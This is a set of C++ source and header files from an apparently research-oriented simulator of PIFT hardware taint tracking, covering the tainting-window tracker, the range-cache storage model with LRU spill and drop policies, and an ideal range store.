    void restoreState(const TrackerState &state);

    /** Control events consumed so far (the resume-cursor pair). */
    uint64_t controlsSeen() const { return controls_seen; }

    /** Reset window state, statistics and sink results (not store). */
    void reset();

    const PiftParams &params() const { return cfg; }

    /**
     * Reconfigure NI/NT/untainting (the hardware Configure command).
     * Open windows are discarded; taint state is kept.
     */
    void setParams(const PiftParams &params);

  private:
    /** Per-process tainting-window state. */
    struct Window
    {
        bool active = false;  //!< a tainted load has been seen
        SeqNum ltlt = 0;      //!< last tainted-load time (local seq)
        unsigned used = 0;    //!< propagations consumed in this TW
    };

    void afterOp(SeqNum records);

    /** Emit a journal record stamped with the current cursor. */
    void journalEvent(JournalRecord rec);

    /**
     * Algorithm 1 for one memory event; the shared core of onRecord
     * and onBatch. records_seen must already account for this event.
     */
    void handleMem(ProcId pid, SeqNum local_seq, sim::MemKind kind,
                   Addr start, Addr end);

    /**
     * windows[pid] behind a one-entry memo: batches are dominated by
     * same-pid runs, so most lookups skip the hash probe. Relies on
     * unordered_map reference stability; invalidated whenever the map
     * is cleared.
     */
    Window &
    windowFor(ProcId pid)
    {
        if (memo_w && memo_pid == pid)
            return *memo_w;
        memo_w = &windows[pid];
        memo_pid = pid;
        return *memo_w;
    }

    PiftParams cfg;
    TaintStore &store;
    std::unordered_map<ProcId, Window> windows;
    Window *memo_w = nullptr; //!< windowFor() memo (see above)
    ProcId memo_pid = 0;
    std::unordered_set<ProcId> lossy_pids;
    bool all_lossy = false;
    TrackerStats stat;
    std::vector<SinkResult> sinks;
    SeqNum records_seen = 0;
    uint64_t controls_seen = 0;
    OpObserver observer;
    MutationJournal *journal_ = nullptr;
#if defined(PIFT_PROVENANCE_ENABLED)
    // Guarded so the member itself vanishes in OFF builds: the
    // recorder costs zero bytes in the tracker when compiled out.
    provenance::Recorder *recorder_ = nullptr;
#endif

    // Per-record telemetry tallies, batched as plain members (this is
    // the hottest loop in the repo) and published to the
    // core.tracker.* counters on destruction.
    uint64_t tel_windows_opened = 0;
    uint64_t tel_windows_renewed = 0;
    uint64_t tel_windows_expired = 0;
    uint64_t tel_stores_tainted = 0;
    uint64_t tel_stores_untainted = 0;
    uint64_t tel_batch_flushes = 0;
};

} // namespace pift::core

#endif // PIFT_CORE_PIFT_TRACKER_HH
