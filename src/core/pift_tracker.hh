/**
 * @file
 * The PIFT taint-propagation heuristic (Algorithm 1).
 *
 * The tracker consumes the retired-instruction stream and maintains
 * the tainted range set R through a per-process Tainting Window (TW):
 *
 *  - on a memory load whose source range overlaps R, (re)start the TW:
 *    remember the per-process instruction index LTLT and zero the
 *    propagation budget;
 *  - on a memory store at instruction k: if k <= LTLT + NI and fewer
 *    than NT propagations have been used in this window, taint the
 *    store's target range; otherwise untaint it (when untainting is
 *    enabled).
 *
 * Everything between the loads and stores — the "process step" that
 * full DIFT instruments — is deliberately ignored; that is the
 * paper's core trade.
 *
 * Control events implement the software stack of Figure 3: source
 * registration taints a range, a sink check queries the outgoing
 * buffer and records a SinkResult.
 */

#ifndef PIFT_CORE_PIFT_TRACKER_HH
#define PIFT_CORE_PIFT_TRACKER_HH

#include <cstdint>
#include <functional>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "core/taint_store.hh"
#include "sim/trace.hh"
#include "support/types.hh"
#include "taint/addr_range.hh"

namespace pift::core
{

/** Tainting-window configuration (the paper's NI and NT). */
struct PiftParams
{
    /** Tainting window size NI, in per-process instructions. */
    unsigned ni = 13;
    /** Maximum taint propagations NT per window. */
    unsigned nt = 3;
    /** Untaint stores that fall outside every window (Section 3.2). */
    bool untaint = true;
    /**
     * Restart the window on every tainted load (Algorithm 1 / Figure
     * 4 semantics). When false — an ablation variant — a tainted load
     * only opens a window if none is active, and never refreshes one.
     */
    bool restart = true;
};

/** Outcome of one sink check. */
struct SinkResult
{
    uint32_t sink_id = 0;        //!< app-assigned sink identifier
    ProcId pid = 0;
    taint::AddrRange range;      //!< buffer that was checked
    bool tainted = false;        //!< true = leak detected
    /**
     * Degradation-aware verdict: Tainted iff `tainted`; a negative
     * check degrades to MaybeTainted when the backend is saturated or
     * the front-end reported event loss for this process.
     */
    SinkVerdict verdict = SinkVerdict::Clean;
    SeqNum at_records = 0;       //!< records preceding the check
};

/** Running counters of the tracker (drives Figures 14-19). */
struct TrackerStats
{
    uint64_t loads = 0;            //!< load events observed
    uint64_t stores = 0;           //!< store events observed
    uint64_t tainted_loads = 0;    //!< loads that opened/renewed a TW
    uint64_t taint_ops = 0;        //!< effective taint propagations
    uint64_t untaint_ops = 0;      //!< effective untaint operations
    uint64_t max_tainted_bytes = 0;
    uint64_t max_ranges = 0;
    uint64_t stream_loss_events = 0; //!< front-end loss notifications
};

/** Online implementation of Algorithm 1 over a TaintStore backend. */
class PiftTracker : public sim::TraceSink
{
  public:
    /**
     * Called after every effective taint/untaint operation with the
     * record count so far; benches sample tainted-bytes/op-count
     * time series through this hook.
     */
    using OpObserver = std::function<void(SeqNum records,
                                          const TrackerStats &,
                                          const TaintStore &)>;

    /**
     * @param params window configuration
     * @param store taint-state backend (not owned)
     */
    PiftTracker(const PiftParams &params, TaintStore &store);
    ~PiftTracker() override;

    void onRecord(const sim::TraceRecord &rec) override;
    void onControl(const sim::ControlEvent &ev) override;

    const TrackerStats &stats() const { return stat; }
    const std::vector<SinkResult> &sinkResults() const { return sinks; }

    /** True when any sink check so far saw tainted data. */
    bool anyLeak() const;

    /** True when any sink check was Tainted *or* MaybeTainted. */
    bool anyPossibleLeak() const;

    /**
     * The CPU front-end (or a decoupling queue between it and the
     * module) reports that events for @p pid were lost or are
     * suspect. From here on, negative sink checks for that process
     * answer MaybeTainted — taint could have propagated through the
     * missing events.
     */
    void noteStreamLoss(ProcId pid);

    /**
     * True when Clean answers for @p pid can no longer be trusted:
     * the store lost state (saturation) or the stream lost events.
     */
    bool degraded(ProcId pid) const;

    /** Install the per-operation observer (may be empty). */
    void setOpObserver(OpObserver obs) { observer = std::move(obs); }

    /** Reset window state, statistics and sink results (not store). */
    void reset();

    const PiftParams &params() const { return cfg; }

    /**
     * Reconfigure NI/NT/untainting (the hardware Configure command).
     * Open windows are discarded; taint state is kept.
     */
    void setParams(const PiftParams &params);

  private:
    /** Per-process tainting-window state. */
    struct Window
    {
        bool active = false;  //!< a tainted load has been seen
        SeqNum ltlt = 0;      //!< last tainted-load time (local seq)
        unsigned used = 0;    //!< propagations consumed in this TW
    };

    void afterOp(SeqNum records);

    PiftParams cfg;
    TaintStore &store;
    std::unordered_map<ProcId, Window> windows;
    std::unordered_set<ProcId> lossy_pids;
    TrackerStats stat;
    std::vector<SinkResult> sinks;
    SeqNum records_seen = 0;
    OpObserver observer;

    // Per-record telemetry tallies, batched as plain members (this is
    // the hottest loop in the repo) and published to the
    // core.tracker.* counters on destruction.
    uint64_t tel_windows_opened = 0;
    uint64_t tel_windows_renewed = 0;
    uint64_t tel_windows_expired = 0;
    uint64_t tel_stores_tainted = 0;
    uint64_t tel_stores_untainted = 0;
};

} // namespace pift::core

#endif // PIFT_CORE_PIFT_TRACKER_HH
