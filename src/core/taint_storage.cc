#include "core/taint_storage.hh"

#include <algorithm>

#include "support/logging.hh"
#include "telemetry/registry.hh"

namespace pift::core
{

namespace
{

/** Range-cache instruments (the on-chip taint storage of Figure 6). */
struct StorageTel
{
    telemetry::Counter &inserts =
        telemetry::counter("core.storage.inserts");
    telemetry::Counter &removes =
        telemetry::counter("core.storage.removes");
    telemetry::Counter &lookups =
        telemetry::counter("core.storage.lookups");
    telemetry::Counter &hits =
        telemetry::counter("core.storage.lookup_hits");
    telemetry::Counter &spill_hits =
        telemetry::counter("core.storage.spill_hits");
    telemetry::Counter &evictions =
        telemetry::counter("core.storage.evictions");
    telemetry::Counter &drops =
        telemetry::counter("core.storage.drops");
    telemetry::Counter &coalesces =
        telemetry::counter("core.storage.coalesces");
    telemetry::Counter &hot_probe_hits =
        telemetry::counter("core.storage.hot_probe_hits");
};

StorageTel &
stel()
{
    static StorageTel t;
    return t;
}

} // anonymous namespace

uint64_t
TaintStorageState::bytes() const
{
    uint64_t total = 0;
    for (const auto &e : entries)
        total += e.range.bytes();
    for (const auto &[pid, ranges] : spills)
        for (const auto &r : ranges)
            total += r.bytes();
    return total;
}

size_t
TaintStorageState::rangeCount() const
{
    size_t n = entries.size();
    for (const auto &[pid, ranges] : spills)
        n += ranges.size();
    return n;
}

bool
TaintStorageState::operator==(const TaintStorageState &other) const
{
    auto entryEq = [](const Entry &a, const Entry &b) {
        return a.pid == b.pid && a.range.start == b.range.start &&
            a.range.end == b.range.end && a.last_use == b.last_use;
    };
    auto spillEq = [](const std::pair<ProcId,
                          std::vector<taint::AddrRange>> &a,
                      const std::pair<ProcId,
                          std::vector<taint::AddrRange>> &b) {
        if (a.first != b.first || a.second.size() != b.second.size())
            return false;
        for (size_t i = 0; i < a.second.size(); ++i)
            if (a.second[i].start != b.second[i].start ||
                a.second[i].end != b.second[i].end)
                return false;
        return true;
    };
    return params.entries == other.params.entries &&
        params.policy == other.params.policy &&
        params.coalesce == other.params.coalesce &&
        clock == other.clock &&
        std::equal(entries.begin(), entries.end(),
                   other.entries.begin(), other.entries.end(),
                   entryEq) &&
        std::equal(spills.begin(), spills.end(), other.spills.begin(),
                   other.spills.end(), spillEq) &&
        saturated == other.saturated;
}

TaintStorage::TaintStorage(const TaintStorageParams &p)
    : params(p), entries(p.entries)
{
    pift_assert(p.entries > 0, "taint storage needs at least one entry");
}

TaintStorageState
TaintStorage::exportState() const
{
    TaintStorageState state;
    state.params = params;
    state.clock = clock;
    for (const auto &e : entries)
        if (e.valid)
            state.entries.push_back({e.pid, e.range, e.last_use});
    std::sort(state.entries.begin(), state.entries.end(),
              [](const TaintStorageState::Entry &a,
                 const TaintStorageState::Entry &b) {
                  return a.last_use < b.last_use;
              });
    for (const auto &[pid, set] : spill_sets)
        state.spills.emplace_back(pid, set.ranges());
    state.saturated.assign(saturated_pids.begin(),
                           saturated_pids.end());
    std::sort(state.saturated.begin(), state.saturated.end());
    return state;
}

void
TaintStorage::restoreState(const TaintStorageState &state)
{
    pift_assert(state.params.entries == params.entries &&
                    state.params.policy == params.policy &&
                    state.params.coalesce == params.coalesce,
                "taint storage restore: params mismatch");
    pift_assert(state.entries.size() <= entries.size(),
                "taint storage restore: %zu entries exceed capacity "
                "%zu", state.entries.size(), entries.size());
    for (auto &e : entries)
        e.valid = false;
    for (size_t i = 0; i < state.entries.size(); ++i) {
        const auto &se = state.entries[i];
        entries[i] = {se.pid, se.range, true, se.last_use};
    }
    spill_sets.clear();
    for (const auto &[pid, ranges] : state.spills) {
        taint::RangeSet &set = spill_sets[pid];
        for (const auto &r : ranges)
            set.insert(r);
    }
    saturated_pids.clear();
    saturated_pids.insert(state.saturated.begin(),
                          state.saturated.end());
    clock = state.clock;
    ++probe_epoch;
}

size_t
TaintStorage::validEntries() const
{
    size_t n = 0;
    for (const auto &e : entries)
        if (e.valid)
            ++n;
    return n;
}

size_t
TaintStorage::spilledRanges() const
{
    size_t n = 0;
    for (const auto &[pid, set] : spill_sets)
        n += set.rangeCount();
    return n;
}

bool
TaintStorage::query(ProcId pid, const taint::AddrRange &r)
{
    ++stat.lookups;
    stel().lookups.inc();

    // Probe the negative memo first: a remembered miss skips the CAM
    // scan entirely. Exact by construction — see ProbeSlot.
    ProbeSlot &ps = probe[probeIndex(pid, r)];
    if (ps.epoch == probe_epoch && ps.pid == pid &&
        ps.start == r.start && ps.end == r.end) {
        ++stat.hot_probe_hits;
        stel().hot_probe_hits.inc();
        return false;
    }

    stat.entry_compares += entries.size();
    bool hit = false;
    for (auto &e : entries) {
        if (e.valid && e.pid == pid && e.range.overlaps(r)) {
            e.last_use = ++clock;
            hit = true;
            // In hardware all comparators fire at once; keep scanning
            // only to refresh LRU state of every hitting entry.
        }
    }
    if (hit) {
        ++stat.lookup_hits;
        stel().hits.inc();
        return true;
    }
    if (params.policy == EvictPolicy::LruSpill) {
        auto it = spill_sets.find(pid);
        if (it != spill_sets.end() && it->second.overlaps(r)) {
            ++stat.lookup_hits;
            ++stat.spill_hits;
            stel().hits.inc();
            stel().spill_hits.inc();
            return true;
        }
    }
    ps = {pid, r.start, r.end, probe_epoch};
    return false;
}

void
TaintStorage::markSaturated(ProcId pid)
{
    ++stat.saturation_events;
    saturated_pids.insert(pid);
}

bool
TaintStorage::saturated(ProcId pid) const
{
    return saturated_pids.count(pid) > 0;
}

void
TaintStorage::clearSaturation()
{
    saturated_pids.clear();
}

size_t
TaintStorage::allocEntry(ProcId pid, const taint::AddrRange &want,
                         provenance::ProvCause drop_cause)
{
    (void)want;
    (void)drop_cause;
    size_t victim = npos;
    uint64_t oldest = ~0ull;
    for (size_t i = 0; i < entries.size(); ++i) {
        if (!entries[i].valid)
            return i;
        if (entries[i].last_use < oldest) {
            oldest = entries[i].last_use;
            victim = i;
        }
    }
    switch (params.policy) {
      case EvictPolicy::LruSpill:
        ++stat.evictions;
        stel().evictions.inc();
        spill_sets[entries[victim].pid].insert(entries[victim].range);
        // Exact move to secondary storage — informational, no loss.
        PIFT_PROV(recorder_,
                  record(provenance::ProvKind::Spill,
                         provenance::ProvCause::SpillEviction,
                         entries[victim].pid,
                         entries[victim].range.start,
                         entries[victim].range.end));
        entries[victim].valid = false;
        return victim;
      case EvictPolicy::LruDrop:
        ++stat.evictions;
        ++stat.dropped;
        stel().evictions.inc();
        stel().drops.inc();
        // The evicted process silently loses this range.
        markSaturated(entries[victim].pid);
        PIFT_PROV(recorder_,
                  record(provenance::ProvKind::StorageLoss,
                         provenance::ProvCause::LruDropEviction,
                         entries[victim].pid,
                         entries[victim].range.start,
                         entries[victim].range.end));
        entries[victim].valid = false;
        return victim;
      case EvictPolicy::DropNew:
        ++stat.dropped;
        stel().drops.inc();
        // The inserting process never gets its range stored.
        markSaturated(pid);
        PIFT_PROV(recorder_,
                  record(provenance::ProvKind::StorageLoss, drop_cause,
                         pid, want.start, want.end));
        return npos;
    }
    return npos;
}

bool
TaintStorage::insert(ProcId pid, const taint::AddrRange &r)
{
    if (!r.valid())
        return false;
    ++stat.inserts;
    stel().inserts.inc();
    ++probe_epoch; // cached misses may now be stale

    taint::AddrRange merged = r;
    uint64_t absorbed = 0;
    size_t slot = npos;

    if (params.coalesce) {
        // Absorb every same-process entry that overlaps or touches.
        // Hardware does this with the same comparator array the
        // lookup uses.
        stat.entry_compares += entries.size();
        for (size_t i = 0; i < entries.size(); ++i) {
            Entry &e = entries[i];
            if (!e.valid || e.pid != pid || !e.range.touches(merged))
                continue;
            merged.start = std::min(merged.start, e.range.start);
            merged.end = std::max(merged.end, e.range.end);
            absorbed += e.range.bytes();
            e.valid = false;
            if (slot == npos) {
                slot = i;
            } else {
                ++stat.coalesces;
                stel().coalesces.inc();
            }
        }
        // Growing the merged range may newly touch other entries;
        // repeat until stable (rare, bounded by entry count).
        bool grew = true;
        while (grew) {
            grew = false;
            for (size_t i = 0; i < entries.size(); ++i) {
                Entry &e = entries[i];
                if (!e.valid || e.pid != pid ||
                    !e.range.touches(merged)) {
                    continue;
                }
                merged.start = std::min(merged.start, e.range.start);
                merged.end = std::max(merged.end, e.range.end);
                absorbed += e.range.bytes();
                e.valid = false;
                ++stat.coalesces;
                stel().coalesces.inc();
                grew = true;
            }
        }
    }

    if (slot == npos)
        slot = allocEntry(pid, merged,
                          provenance::ProvCause::DropNewRefusal);
    if (slot == npos) {
        // DropNew with a full cache: the taint is lost.
        return false;
    }

    // Re-absorb any spilled overlap: the new cache entry covers those
    // bytes now, so leaving them in secondary storage would make
    // bytes()/rangeCount() double-count and make a re-insert of a
    // spilled range report "new bytes covered". Runs after allocEntry
    // because the eviction above may itself have spilled an
    // overlapping same-pid victim (possible with coalescing off).
    if (params.policy == EvictPolicy::LruSpill) {
        auto it = spill_sets.find(pid);
        if (it != spill_sets.end()) {
            uint64_t spilled = it->second.bytes();
            if (it->second.remove(merged))
                absorbed += spilled - it->second.bytes();
            if (it->second.empty())
                spill_sets.erase(it);
        }
    }

    entries[slot] = {pid, merged, true, ++clock};
    stat.max_entries_used = std::max(stat.max_entries_used,
                                     validEntries());
    if (!params.coalesce)
        return true;
    return merged.bytes() > absorbed;
}

bool
TaintStorage::remove(ProcId pid, const taint::AddrRange &r)
{
    if (!r.valid())
        return false;
    ++stat.removes;
    stel().removes.inc();
    ++probe_epoch; // a removal can only widen the set of misses, but
                   // the memo maps (pid, range) → miss exactly, so
                   // drop it wholesale rather than reason per slot
    stat.entry_compares += entries.size();

    bool changed = false;
    for (size_t i = 0; i < entries.size(); ++i) {
        Entry &e = entries[i];
        if (!e.valid || e.pid != pid || !e.range.overlaps(r))
            continue;
        changed = true;
        taint::AddrRange cur = e.range;
        bool keep_left = cur.start < r.start;
        bool keep_right = cur.end > r.end;
        if (keep_left && keep_right) {
            // Split: shrink in place to the left part, allocate a new
            // entry for the right part.
            e.range = taint::AddrRange(cur.start, r.start - 1);
            taint::AddrRange right(r.end + 1, cur.end);
            size_t extra = allocEntry(
                pid, right, provenance::ProvCause::SplitAllocFail);
            if (extra != npos) {
                entries[extra] = {pid, right, true, ++clock};
                stat.max_entries_used = std::max(stat.max_entries_used,
                                                 validEntries());
            }
            // extra == npos: the DropNew branch of allocEntry already
            // counted the drop and saturated the splitting process.
        } else if (keep_left) {
            e.range = taint::AddrRange(cur.start, r.start - 1);
        } else if (keep_right) {
            e.range = taint::AddrRange(r.end + 1, cur.end);
        } else {
            e.valid = false;
        }
    }

    if (params.policy == EvictPolicy::LruSpill) {
        auto it = spill_sets.find(pid);
        if (it != spill_sets.end() && it->second.remove(r))
            changed = true;
    }
    return changed;
}

void
TaintStorage::clear()
{
    ++probe_epoch;
    for (auto &e : entries)
        e.valid = false;
    spill_sets.clear();
    // A full clear is an exact state: nothing previously lost can
    // matter for future queries.
    saturated_pids.clear();
}

uint64_t
TaintStorage::bytes() const
{
    uint64_t total = 0;
    for (const auto &e : entries)
        if (e.valid)
            total += e.range.bytes();
    for (const auto &[pid, set] : spill_sets)
        total += set.bytes();
    return total;
}

size_t
TaintStorage::rangeCount() const
{
    return validEntries() + spilledRanges();
}

WordTaintStorage::WordTaintStorage(unsigned granularity_log2)
    : gran(granularity_log2)
{
    pift_assert(granularity_log2 < 31, "granularity too coarse");
}

uint64_t
WordTaintStorage::key(ProcId pid, Addr block) const
{
    return (static_cast<uint64_t>(pid) << 32) | block;
}

bool
WordTaintStorage::query(ProcId pid, const taint::AddrRange &r)
{
    if (!r.valid())
        return false;
    Addr first = r.start >> gran;
    Addr last = r.end >> gran;
    for (Addr b = first; b <= last; ++b) {
        if (blocks.count(key(pid, b)))
            return true;
        if (b == last)
            break;
    }
    return false;
}

bool
WordTaintStorage::insert(ProcId pid, const taint::AddrRange &r)
{
    if (!r.valid())
        return false;
    bool changed = false;
    Addr first = r.start >> gran;
    Addr last = r.end >> gran;
    for (Addr b = first; b <= last; ++b) {
        changed |= blocks.insert(key(pid, b)).second;
        if (b == last)
            break;
    }
    return changed;
}

bool
WordTaintStorage::remove(ProcId pid, const taint::AddrRange &r)
{
    if (!r.valid())
        return false;
    // Conservative untainting: only drop blocks fully covered by the
    // removal, so the store stays a strict over-approximation of the
    // exact range set (partial overwrites keep the block tainted —
    // the overtainting cost of fixed granularity, Section 3.3).
    bool changed = false;
    Addr first = r.start >> gran;
    Addr last = r.end >> gran;
    for (Addr b = first; b <= last; ++b) {
        Addr block_start = b << gran;
        Addr block_end = block_start + static_cast<Addr>(blockBytes())
            - 1;
        if (r.start <= block_start && block_end <= r.end)
            changed |= blocks.erase(key(pid, b)) > 0;
        if (b == last)
            break;
    }
    return changed;
}

void
WordTaintStorage::clear()
{
    blocks.clear();
}

uint64_t
WordTaintStorage::bytes() const
{
    return blocks.size() * blockBytes();
}

size_t
WordTaintStorage::rangeCount() const
{
    return blocks.size();
}

} // namespace pift::core
