/**
 * @file
 * Hardware taint-storage models (Section 3.3, Figure 6).
 *
 * TaintStorage models the on-chip cache of arbitrary-length ranges:
 * a fixed number of entries, each holding {process id, start, end,
 * valid}; a lookup compares all entries in parallel (constant time in
 * hardware — we count comparisons for the microbench). When the cache
 * fills, the paper offers two options: evict with LRU to a secondary
 * storage in main memory (costing a miss-style delay), or simply drop
 * the entry (no delay, possible false negatives). Both are modeled,
 * plus coalescing of overlapping/adjacent same-process entries, which
 * keeps entry pressure at the Figure 17 levels.
 *
 * WordTaintStorage models the fixed-granularity alternative: taint a
 * whole 2^r-byte block when any byte in it is tainted, storing only
 * the (32-r)-bit block numbers. Cheaper entries and faster compare,
 * but overtaints (measured by the ablation bench).
 */

#ifndef PIFT_CORE_TAINT_STORAGE_HH
#define PIFT_CORE_TAINT_STORAGE_HH

#include <array>
#include <cstdint>
#include <map>
#include <unordered_set>
#include <utility>
#include <vector>

#include "core/taint_store.hh"
#include "provenance/recorder.hh"
#include "support/types.hh"
#include "taint/range_set.hh"

namespace pift::core
{

/** What to do when a new range finds no free entry. */
enum class EvictPolicy : uint8_t
{
    LruSpill, //!< evict the LRU entry to secondary storage (exact)
    LruDrop,  //!< evict the LRU entry and forget it (may lose taint)
    DropNew   //!< refuse the insertion (may lose taint)
};

/** Operation counters for the hardware model. */
struct StorageStats
{
    uint64_t lookups = 0;          //!< query operations issued
    uint64_t lookup_hits = 0;      //!< queries that matched an entry
    uint64_t spill_hits = 0;       //!< hits served by secondary storage
    uint64_t inserts = 0;          //!< taint commands
    uint64_t removes = 0;          //!< untaint commands
    uint64_t evictions = 0;        //!< entries pushed out by capacity
    uint64_t dropped = 0;          //!< entries lost (no spill)
    uint64_t saturation_events = 0; //!< times a process lost a range
    uint64_t coalesces = 0;        //!< entries merged on insert
    size_t max_entries_used = 0;   //!< peak valid-entry count
    uint64_t entry_compares = 0;   //!< CAM comparisons (cost proxy)
    uint64_t hot_probe_hits = 0;   //!< misses served by the probe cache
};

/** Configuration of the range-entry cache. */
struct TaintStorageParams
{
    /**
     * Entry count. The paper sizes a 32 KiB on-chip memory at 12
     * bytes/entry = ~2730 PID-tagged entries (4096 without tags).
     */
    size_t entries = 2730;
    EvictPolicy policy = EvictPolicy::LruSpill;
    /** Merge overlapping/adjacent same-pid entries on insert. */
    bool coalesce = true;
};

/**
 * Serializable state of a TaintStorage (DESIGN.md §11). Captures
 * everything that determines future behaviour: the valid entries with
 * their LRU stamps (in canonical ascending last_use order — stamps
 * are unique because every touch advances the clock), the LRU clock
 * itself, the spilled range sets, and the per-process saturation
 * flags. Restoring this state into a storage with equal params
 * reproduces the original's behaviour exactly: slot indices are
 * semantically inert (lookup, coalescing and eviction all scan every
 * entry and decide by pid/range/last_use alone). Operation counters
 * (StorageStats) are observability, not state, and are not captured.
 */
struct TaintStorageState
{
    /** Config the state was exported under (restore must match). */
    TaintStorageParams params;

    struct Entry
    {
        ProcId pid = 0;
        taint::AddrRange range;
        uint64_t last_use = 0;
    };

    uint64_t clock = 0;
    std::vector<Entry> entries;             //!< ascending last_use
    /** Spilled ranges per process, ascending pid / ascending start. */
    std::vector<std::pair<ProcId, std::vector<taint::AddrRange>>>
        spills;
    std::vector<ProcId> saturated;          //!< ascending pid

    /** Tainted bytes represented (cache + spill). */
    uint64_t bytes() const;

    /** Range entries represented (cache + spill). */
    size_t rangeCount() const;

    bool operator==(const TaintStorageState &other) const;
};

/** Fixed-capacity cache of tainted ranges (Figure 6). */
class TaintStorage : public TaintStore
{
  public:
    explicit TaintStorage(const TaintStorageParams &params);

    bool query(ProcId pid, const taint::AddrRange &r) override;
    bool insert(ProcId pid, const taint::AddrRange &r) override;
    bool remove(ProcId pid, const taint::AddrRange &r) override;
    void clear() override;
    uint64_t bytes() const override;
    size_t rangeCount() const override;

    /**
     * True once any range of @p pid has been lost to LruDrop
     * eviction, a DropNew refusal, or a failed split allocation —
     * from then on a negative query may be a false negative, and sink
     * checks must degrade to MaybeTainted (Section 3.3's FN-only
     * claim made observable).
     */
    bool saturated(ProcId pid) const override;
    void clearSaturation() override;

    const StorageStats &stats() const { return stat; }

    /**
     * Attach a provenance flight recorder (may be null to detach).
     * The storage emits Spill/StorageLoss records for every eviction
     * and refusal, stamped with the cursor the tracker above advances.
     * No-op in PIFT_PROVENANCE=OFF builds.
     */
    void
    setRecorder(provenance::Recorder *rec)
    {
#if defined(PIFT_PROVENANCE_ENABLED)
        recorder_ = rec;
#else
        (void)rec;
#endif
    }

    /**
     * Export the complete semantic state in canonical order (see
     * TaintStorageState). Used by the persist layer's snapshots and
     * by the crash-recovery differential's equality checks.
     */
    TaintStorageState exportState() const;

    /**
     * Replace all state with @p state, which must have been exported
     * under the same params (asserted). Entries are packed into the
     * lowest slots; behaviour is unaffected (slot indices are inert).
     * Operation counters are left untouched.
     */
    void restoreState(const TaintStorageState &state);

    /** Valid entries currently held on chip. */
    size_t validEntries() const;

    /** Ranges spilled to the in-memory secondary storage. */
    size_t spilledRanges() const;

  private:
    struct Entry
    {
        ProcId pid = 0;
        taint::AddrRange range;
        bool valid = false;
        uint64_t last_use = 0; //!< LRU clock
    };

    /**
     * Claim a slot, evicting per policy. Returns npos if DropNew.
     * @param want the range the caller is trying to store — the range
     *             lost when the policy refuses the allocation
     * @param drop_cause the provenance cause of such a refusal
     *                   (DropNewRefusal from insert, SplitAllocFail
     *                   from a remove split)
     */
    size_t allocEntry(ProcId pid, const taint::AddrRange &want,
                      provenance::ProvCause drop_cause);

    /** Record that @p pid lost a range (sets the saturation flag). */
    void markSaturated(ProcId pid);

    static constexpr size_t npos = ~size_t(0);

    /**
     * Hot-probe cache (DESIGN.md §12): a small direct-mapped memo of
     * recent *negative* queries, checked before the CAM scan. Only
     * misses are cached because a negative query mutates nothing (no
     * LRU touch, no clock tick), so serving it from the memo is
     * state-exact — exported state is identical whether the memo is
     * warm or cold, which the crash-recovery differentials depend on.
     * A positive query always runs the real scan so every hitting
     * entry gets its LRU touch. Any mutation bumps probe_epoch,
     * invalidating the whole memo in O(1).
     */
    struct ProbeSlot
    {
        ProcId pid = 0;
        Addr start = 0;
        Addr end = 0;
        uint64_t epoch = 0; //!< matches probe_epoch when live
    };

    static constexpr size_t probe_slots = 256; //!< power of two

    size_t
    probeIndex(ProcId pid, const taint::AddrRange &r) const
    {
        uint32_t h = pid * 0x9e3779b9u ^ r.start * 0x85ebca6bu ^
            r.end * 0xc2b2ae35u;
        return (h >> 4) & (probe_slots - 1);
    }

    TaintStorageParams params;
    std::vector<Entry> entries;
    // Secondary storage in "main memory" (LruSpill policy only).
    std::map<ProcId, taint::RangeSet> spill_sets;
    std::unordered_set<ProcId> saturated_pids;
    StorageStats stat;
#if defined(PIFT_PROVENANCE_ENABLED)
    // Guarded: zero bytes in the storage model when compiled out.
    provenance::Recorder *recorder_ = nullptr;
#endif
    uint64_t clock = 0;
    std::array<ProbeSlot, probe_slots> probe{};
    uint64_t probe_epoch = 1;
};

/** Fixed-granularity (2^r-byte block) tag store. */
class WordTaintStorage : public TaintStore
{
  public:
    /** @param granularity_log2 r: block size is 2^r bytes (r >= 0). */
    explicit WordTaintStorage(unsigned granularity_log2 = 2);

    bool query(ProcId pid, const taint::AddrRange &r) override;
    bool insert(ProcId pid, const taint::AddrRange &r) override;
    bool remove(ProcId pid, const taint::AddrRange &r) override;
    void clear() override;

    /** Bytes covered by tainted blocks (includes overtaint). */
    uint64_t bytes() const override;
    size_t rangeCount() const override;

    /** Block size in bytes. */
    uint64_t blockBytes() const { return 1ull << gran; }

  private:
    uint64_t key(ProcId pid, Addr block) const;

    unsigned gran;
    std::unordered_set<uint64_t> blocks;
};

} // namespace pift::core

#endif // PIFT_CORE_TAINT_STORAGE_HH
