#include "core/taint_store.hh"

#include "telemetry/registry.hh"

namespace pift::core
{

namespace
{

/** Exact software range-store instruments (replay hot path). */
struct RangeStoreTel
{
    telemetry::Counter &queries =
        telemetry::counter("core.range_store.queries");
    telemetry::Counter &hits =
        telemetry::counter("core.range_store.query_hits");
    telemetry::Counter &inserts =
        telemetry::counter("core.range_store.inserts");
    telemetry::Counter &removes =
        telemetry::counter("core.range_store.removes");
};

RangeStoreTel &
rtel()
{
    static RangeStoreTel t;
    return t;
}

} // anonymous namespace

const char *
sinkVerdictName(SinkVerdict v)
{
    switch (v) {
      case SinkVerdict::Clean:        return "clean";
      case SinkVerdict::Tainted:      return "tainted";
      case SinkVerdict::MaybeTainted: return "maybe-tainted";
    }
    return "?";
}

IdealRangeStore::~IdealRangeStore()
{
    // Publish the batched tallies (see taint_store.hh): four shared
    // RMWs per store lifetime instead of one per operation.
    if (tel_queries)
        rtel().queries.inc(tel_queries);
    if (tel_hits)
        rtel().hits.inc(tel_hits);
    if (tel_inserts)
        rtel().inserts.inc(tel_inserts);
    if (tel_removes)
        rtel().removes.inc(tel_removes);
}

bool
IdealRangeStore::query(ProcId pid, const taint::AddrRange &r)
{
    if constexpr (telemetry::compiledIn())
        ++tel_queries;
    auto it = sets.find(pid);
    bool hit = it != sets.end() && it->second.overlaps(r);
    if (hit && telemetry::compiledIn())
        ++tel_hits;
    return hit;
}

bool
IdealRangeStore::insert(ProcId pid, const taint::AddrRange &r)
{
    if constexpr (telemetry::compiledIn())
        ++tel_inserts;
    return sets[pid].insert(r);
}

bool
IdealRangeStore::remove(ProcId pid, const taint::AddrRange &r)
{
    if constexpr (telemetry::compiledIn())
        ++tel_removes;
    auto it = sets.find(pid);
    return it != sets.end() && it->second.remove(r);
}

void
IdealRangeStore::clear()
{
    sets.clear();
}

uint64_t
IdealRangeStore::bytes() const
{
    uint64_t total = 0;
    for (const auto &[pid, set] : sets)
        total += set.bytes();
    return total;
}

size_t
IdealRangeStore::rangeCount() const
{
    size_t total = 0;
    for (const auto &[pid, set] : sets)
        total += set.rangeCount();
    return total;
}

